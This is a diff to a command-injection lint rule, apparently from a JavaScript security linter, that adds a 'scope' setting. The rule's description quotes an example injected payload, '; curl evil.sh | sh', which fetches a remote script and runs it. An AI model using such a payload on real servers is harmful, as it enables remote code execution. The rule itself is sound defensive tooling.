@@ -117,6 +117,7 @@ export const commandInjection: Rule = {
     description:
       'A command line built from request data and run through a shell lets the sender run any program on the server with its privileges (`; curl evil.sh | sh`). Run the program directly with its arguments in an array.',
     fixable: 'suggestion',
+    scope: 'declaration',
     sources: ['CWE-78', 'OWASP A03:2021', 'eslint-plugin-security detect-child-process', 'semgrep javascript.lang.security.detect-child-process'],
   },
   create(context) {
